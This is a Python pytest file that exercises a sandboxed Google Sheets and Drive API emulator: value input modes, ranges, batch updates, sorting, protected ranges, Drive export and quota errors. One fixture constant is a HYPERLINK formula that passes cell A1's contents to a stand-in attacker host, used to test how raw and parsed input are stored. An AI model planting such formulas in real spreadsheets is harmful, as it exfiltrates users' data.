"""Sheets v4 through the real google-api-python-client against the sandbox: value input and render
options, grid data, batchUpdate (deleteDimension, sortRange, protection), quota, Drive integration."""
from __future__ import annotations

import json
import time

import pytest
from google.oauth2.credentials import Credentials
from googleapiclient.discovery import build_from_document
from googleapiclient.discovery_cache import get_static_doc
from googleapiclient.errors import HttpError

from sandbox.drive.store import DriveStore
from sandbox.state import User, Workspace
from tests.conftest import mint_token

A, B = "alice@example.test", "bob@example.test"
SCOPES = ["https://www.googleapis.com/auth/drive", "https://www.googleapis.com/auth/spreadsheets"]
HYPERLINK = '=HYPERLINK("https://evil.example/?q="&A1,"click me")'


def service(server, name: str, version: str, user: str, scopes: list[str] = SCOPES):
    doc = json.loads(get_static_doc(name, version))
    doc["rootUrl"] = server.url + "/"
    doc.pop("mtlsRootUrl", None)
    return build_from_document(doc, credentials=Credentials(token=mint_token(server, user, scopes)))


def workspace() -> Workspace:
    ws = Workspace(domain="example.test")
    ws.drive = DriveStore()
    ws.users[A] = User(A, "Alice", True)
    ws.users[B] = User(B, "Bob")
    return ws


@pytest.fixture
def env(sandbox_factory):
    server = sandbox_factory(workspace=workspace(), quota=False)
    sheets = service(server, "sheets", "v4", A)
    book = sheets.spreadsheets().create(body={"properties": {"title": "DSAR tracker"},
                                              "sheets": [{"properties": {"title": "Cases"}}]}).execute()
    return server, sheets, book["spreadsheetId"]


def values(sheets, sid: str, rng: str, **kw) -> list[list]:
    return sheets.spreadsheets().values().get(spreadsheetId=sid, range=rng, **kw).execute().get("values", [])


def test_create_shape_and_drive_file(env) -> None:
    server, sheets, sid = env
    book = sheets.spreadsheets().get(spreadsheetId=sid).execute()
    assert set(book) == {"spreadsheetId", "properties", "sheets", "spreadsheetUrl"}
    assert book["sheets"][0]["properties"] == {"sheetId": 0, "title": "Cases", "index": 0, "sheetType": "GRID",
                                                "gridProperties": {"rowCount": 1000, "columnCount": 26}}
    drive = service(server, "drive", "v3", A)
    listed = drive.files().list(q="mimeType = 'application/vnd.google-apps.spreadsheet'", fields="files(id,name)").execute()
    assert listed["files"] == [{"id": sid, "name": "DSAR tracker"}]


def test_raw_keeps_strings_user_entered_parses(env) -> None:
    _, sheets, sid = env
    v = sheets.spreadsheets().values()
    resp = v.update(spreadsheetId=sid, range="Cases!A1", valueInputOption="RAW",
                    body={"values": [["Jane", HYPERLINK, "=1+1", "42", 7]]}).execute()
    assert resp["updatedRange"] == "Cases!A1:E1" and resp["updatedCells"] == 5
    v.update(spreadsheetId=sid, range="Cases!A2", valueInputOption="USER_ENTERED",
             body={"values": [["Jane", HYPERLINK, "=1+1", "42", "2020-01-01", "TRUE", "'0123"]]}).execute()
    assert values(sheets, sid, "Cases!A1:G2", valueRenderOption="UNFORMATTED_VALUE") == [
        ["Jane", HYPERLINK, "=1+1", "42", 7], ["Jane", HYPERLINK, 2, 42, 43831, True, "0123"]]
    assert values(sheets, sid, "Cases!A2:G2") == [["Jane", HYPERLINK, "2", "42", "2020-01-01", "TRUE", "0123"]]
    assert values(sheets, sid, "Cases!B1:C2", valueRenderOption="FORMULA") == [[HYPERLINK, "=1+1"], [HYPERLINK, "=1+1"]]
    grid = sheets.spreadsheets().get(spreadsheetId=sid, ranges=["Cases!B1:C2"], includeGridData=True).execute()
    rows = grid["sheets"][0]["data"][0]["rowData"]
    assert rows[0]["values"][0]["userEnteredValue"] == {"stringValue": HYPERLINK}
    assert rows[0]["values"][0]["effectiveValue"] == {"stringValue": HYPERLINK}
    assert rows[0]["values"][1]["userEnteredValue"] == {"stringValue": "=1+1"}
    assert rows[1]["values"][0]["userEnteredValue"] == {"formulaValue": HYPERLINK}
    assert "stringValue" not in rows[1]["values"][0].get("effectiveValue", {})
    assert rows[1]["values"][1]["userEnteredValue"] == {"formulaValue": "=1+1"}
    assert rows[1]["values"][1]["effectiveValue"] == {"numberValue": 2}
    assert grid["sheets"][0]["data"][0]["startColumn"] == 1


def test_ranges_quoting_open_ranges_and_columns(env) -> None:
    _, sheets, sid = env
    s = sheets.spreadsheets()
    s.batchUpdate(spreadsheetId=sid, body={"requests": [{"addSheet": {"properties": {"title": "It's Q1"}}}]}).execute()
    s.values().update(spreadsheetId=sid, range="'It''s Q1'!B2", valueInputOption="RAW",
                      body={"values": [["x", "y"], ["z"]]}).execute()
    got = s.values().get(spreadsheetId=sid, range="'It''s Q1'").execute()
    assert got == {"range": "'It''s Q1'!A1:Z1000", "majorDimension": "ROWS", "values": [[], ["", "x", "y"], ["", "z"]]}
    assert values(sheets, sid, "'It''s Q1'!B:B") == [[], ["x"], ["z"]]
    assert s.values().get(spreadsheetId=sid, range="'It''s Q1'!B2:C", majorDimension="COLUMNS").execute() == {
        "range": "'It''s Q1'!B2:C1000", "majorDimension": "COLUMNS", "values": [["x", "z"], ["y"]]}
    assert values(sheets, sid, "'It''s Q1'!2:2") == [["", "x", "y"]]
    with pytest.raises(HttpError) as e:
        s.values().get(spreadsheetId=sid, range="Nope!A1").execute()
    body = json.loads(e.value.content)
    assert e.value.resp.status == 400 and body["error"]["status"] == "INVALID_ARGUMENT"
    assert "errors" not in body["error"]
    with pytest.raises(HttpError) as e:
        s.values().update(spreadsheetId=sid, range="Cases!A1:B1", valueInputOption="RAW",
                          body={"values": [["1", "2", "3"]]}).execute()
    assert e.value.resp.status == 400


def test_append_clear_and_batch(env) -> None:
    _, sheets, sid = env
    v = sheets.spreadsheets().values()
    v.update(spreadsheetId=sid, range="Cases!A1", valueInputOption="RAW", body={"values": [["Ref", "Name"]]}).execute()
    out = v.append(spreadsheetId=sid, range="Cases", valueInputOption="RAW",
                   body={"values": [["C-1", "Jane"], ["C-2", "Zoë"]]}).execute()
    assert out["tableRange"] == "Cases!A1:B1" and out["updates"]["updatedRange"] == "Cases!A2:B3"
    both = v.batchGet(spreadsheetId=sid, ranges=["Cases!A1:A3", "Cases!B3"]).execute()
    assert [r.get("values") for r in both["valueRanges"]] == [[["Ref"], ["C-1"], ["C-2"]], [["Zoë"]]]
    v.batchUpdate(spreadsheetId=sid, body={"valueInputOption": "RAW", "data": [
        {"range": "Cases!C1", "values": [["Status"]]}, {"range": "Cases!C2:C3", "values": [["open"], ["closed"]]}]}).execute()
    assert values(sheets, sid, "Cases!C1:C3") == [["Status"], ["open"], ["closed"]]
    assert v.clear(spreadsheetId=sid, range="Cases!B2:B3").execute()["clearedRange"] == "Cases!B2:B3"
    assert values(sheets, sid, "Cases") == [["Ref", "Name", "Status"], ["C-1", "", "open"], ["C-2", "", "closed"]]


def _fill(sheets, sid: str) -> None:
    sheets.spreadsheets().values().update(
        spreadsheetId=sid, range="Cases!A1", valueInputOption="USER_ENTERED",
        body={"values": [["Ref", "Name", "Items"], ["C-3", "Zoë", "12"], ["C-1", "jane", "3"],
                         ["C-2", "Bobby", ""], ["C-4", "Ann", "40"]]}).execute()


def test_delete_dimension_moves_rows_and_ranges(env) -> None:
    _, sheets, sid = env
    _fill(sheets, sid)
    s = sheets.spreadsheets()
    s.batchUpdate(spreadsheetId=sid, body={"requests": [
        {"addProtectedRange": {"protectedRange": {"range": {"sheetId": 0, "startRowIndex": 0, "endRowIndex": 1},
                                                  "description": "header"}}},
        {"addNamedRange": {"namedRange": {"name": "Tail", "range": {"sheetId": 0, "startRowIndex": 3, "endRowIndex": 5,
                                                                     "startColumnIndex": 0, "endColumnIndex": 3}}}},
    ]}).execute()
    s.batchUpdate(spreadsheetId=sid, body={"requests": [
        {"deleteDimension": {"range": {"sheetId": 0, "dimension": "ROWS", "startIndex": 2, "endIndex": 3}}}]}).execute()
    assert values(sheets, sid, "Cases!A1:A9") == [["Ref"], ["C-3"], ["C-2"], ["C-4"]]
    book = s.get(spreadsheetId=sid).execute()
    assert book["sheets"][0]["properties"]["gridProperties"]["rowCount"] == 999
    assert book["namedRanges"][0]["range"] == {"startRowIndex": 2, "endRowIndex": 4, "startColumnIndex": 0, "endColumnIndex": 3}
    assert values(sheets, sid, "Tail") == [["C-2", "Bobby"], ["C-4", "Ann", "40"]]
    s.batchUpdate(spreadsheetId=sid, body={"requests": [
        {"deleteDimension": {"range": {"sheetId": 0, "dimension": "COLUMNS", "startIndex": 1, "endIndex": 2}}}]}).execute()
    assert values(sheets, sid, "Cases!A1:B2") == [["Ref", "Items"], ["C-3", "12"]]


def test_sort_range_keeps_header_and_blanks_last(env) -> None:
    _, sheets, sid = env
    _fill(sheets, sid)
    s = sheets.spreadsheets()
    sort = {"sortRange": {"range": {"sheetId": 0, "startRowIndex": 1, "startColumnIndex": 0, "endColumnIndex": 3},
                          "sortSpecs": [{"dimensionIndex": 1, "sortOrder": "ASCENDING"}]}}
    s.batchUpdate(spreadsheetId=sid, body={"requests": [sort]}).execute()
    assert [r[1] for r in values(sheets, sid, "Cases")] == ["Name", "Ann", "Bobby", "jane", "Zoë"]
    sort["sortRange"]["sortSpecs"] = [{"dimensionIndex": 2, "sortOrder": "DESCENDING"}]
    s.batchUpdate(spreadsheetId=sid, body={"requests": [sort]}).execute()
    assert values(sheets, sid, "Cases") == [["Ref", "Name", "Items"], ["C-4", "Ann", "40"], ["C-3", "Zoë", "12"],
                                            ["C-1", "jane", "3"], ["C-2", "Bobby"]]


def test_batch_update_is_atomic_and_rules_round_trip(env) -> None:
    _, sheets, sid = env
    _fill(sheets, sid)
    s = sheets.spreadsheets()
    with pytest.raises(HttpError) as e:
        s.batchUpdate(spreadsheetId=sid, body={"requests": [
            {"updateSheetProperties": {"properties": {"sheetId": 0, "title": "Renamed"}, "fields": "title"}},
            {"deleteSheet": {"sheetId": 0}}]}).execute()
    assert e.value.resp.status == 400
    assert s.get(spreadsheetId=sid).execute()["sheets"][0]["properties"]["title"] == "Cases"
    reply = s.batchUpdate(spreadsheetId=sid, body={"requests": [
        {"updateSheetProperties": {"properties": {"sheetId": 0, "gridProperties": {"frozenRowCount": 1}},
                                   "fields": "gridProperties.frozenRowCount"}},
        {"addConditionalFormatRule": {"rule": {
            "ranges": [{"sheetId": 0, "startRowIndex": 1, "startColumnIndex": 2, "endColumnIndex": 3}],
            "booleanRule": {"condition": {"type": "NUMBER_GREATER", "values": [{"userEnteredValue": "30"}]},
                            "format": {"backgroundColor": {"red": 1}}}}, "index": 0}},
        {"setDataValidation": {"range": {"sheetId": 0, "startRowIndex": 1, "endRowIndex": 5, "startColumnIndex": 1,
                                         "endColumnIndex": 2},
                               "rule": {"condition": {"type": "ONE_OF_LIST", "values": [{"userEnteredValue": "open"}]},
                                        "strict": True}}},
        {"addSheet": {"properties": {"title": "Log"}}},
        {"updateSpreadsheetProperties": {"properties": {"title": "Tracker 2026"}, "fields": "title"}},
    ]}).execute()
    assert reply["replies"][:3] == [{}, {}, {}] and reply["replies"][3]["addSheet"]["properties"]["index"] == 1
    book = s.get(spreadsheetId=sid, ranges=["Cases!B2"], includeGridData=True).execute()
    sheet = book["sheets"][0]
    assert sheet["properties"]["gridProperties"]["frozenRowCount"] == 1
    assert sheet["conditionalFormats"][0]["booleanRule"]["condition"]["type"] == "NUMBER_GREATER"
    assert sheet["data"][0]["rowData"][0]["values"][0]["dataValidation"]["condition"]["type"] == "ONE_OF_LIST"
    assert book["properties"]["title"] == "Tracker 2026"
    assert [s_["properties"]["title"] for s_ in book["sheets"]] == ["Cases"]  # ranges limit the sheets
    meta = s.get(spreadsheetId=sid, fields="sheets.properties(title,sheetId)").execute()
    assert [set(x["properties"]) for x in meta["sheets"]] == [{"title", "sheetId"}] * 2
    drive = service(env[0], "drive", "v3", A)
    assert drive.files().get(fileId=sid).execute()["name"] == "Tracker 2026"


def test_protected_range_refuses_other_editors(env) -> None:
    server, sheets, sid = env
    _fill(sheets, sid)
    sheets.spreadsheets().batchUpdate(spreadsheetId=sid, body={"requests": [{"addProtectedRange": {"protectedRange": {
        "range": {"sheetId": 0, "startRowIndex": 0, "endRowIndex": 1}, "description": "header"}}}]}).execute()
    drive = service(server, "drive", "v3", A)
    drive.permissions().create(fileId=sid, body={"type": "user", "role": "writer", "emailAddress": B}).execute()
    bob = service(server, "sheets", "v4", B)
    with pytest.raises(HttpError) as e:
        bob.spreadsheets().values().update(spreadsheetId=sid, range="Cases!A1", valueInputOption="RAW",
                                           body={"values": [["hacked"]]}).execute()
    assert e.value.resp.status == 400 and "protected" in json.loads(e.value.content)["error"]["message"]
    bob.spreadsheets().values().update(spreadsheetId=sid, range="Cases!A2", valueInputOption="RAW",
                                       body={"values": [["C-9"]]}).execute()
    assert values(sheets, sid, "Cases!A1:A2") == [["Ref"], ["C-9"]]
    carol = service(server, "sheets", "v4", "carol@example.test")
    with pytest.raises(HttpError) as e:
        carol.spreadsheets().get(spreadsheetId=sid).execute()
    assert e.value.resp.status == 403 and json.loads(e.value.content)["error"]["status"] == "PERMISSION_DENIED"
    with pytest.raises(HttpError) as e:
        sheets.spreadsheets().get(spreadsheetId="missing").execute()
    assert json.loads(e.value.content) == {"error": {"code": 404, "message": "Requested entity was not found.",
                                                     "status": "NOT_FOUND"}}


def test_sheet_edits_reach_drive_search_and_export(env) -> None:
    server, sheets, sid = env
    drive = service(server, "drive", "v3", A)
    assert drive.files().list(q="fullText contains 'Zoë'").execute()["files"] == []
    _fill(sheets, sid)
    assert [f["id"] for f in drive.files().list(q="fullText contains 'zoë'").execute()["files"]] == [sid]
    csv = drive.files().export(fileId=sid, mimeType="text/csv").execute().decode()
    assert csv.splitlines()[1] == "C-3,Zoë,12"


def test_sheets_read_quota_answers_429(sandbox_factory) -> None:
    server = sandbox_factory(workspace=workspace(), quota=True)
    sheets = service(server, "sheets", "v4", A)
    sid = sheets.spreadsheets().create(body={"properties": {"title": "Q"}}).execute()["spreadsheetId"]
    t0, served = time.monotonic(), 0
    v = sheets.spreadsheets().values()  # building a Sheets resource is the slow part of a call, client side
    with pytest.raises(HttpError) as e:
        for _ in range(200):
            v.get(spreadsheetId=sid, range="A1").execute()
            served += 1
    refilled = (time.monotonic() - t0) * 60 / 60  # the bucket refills at 60 reads per minute
    assert 60 <= served <= 60 + refilled + 1
    assert e.value.resp.status == 429 and int(e.value.resp["retry-after"]) >= 1
    err = json.loads(e.value.content)["error"]
    assert err["code"] == 429 and err["status"] == "RESOURCE_EXHAUSTED" and "Read requests" in err["message"]
    sheets.spreadsheets().values().update(spreadsheetId=sid, range="A1", valueInputOption="RAW",
                                          body={"values": [["writes have their own quota"]]}).execute()
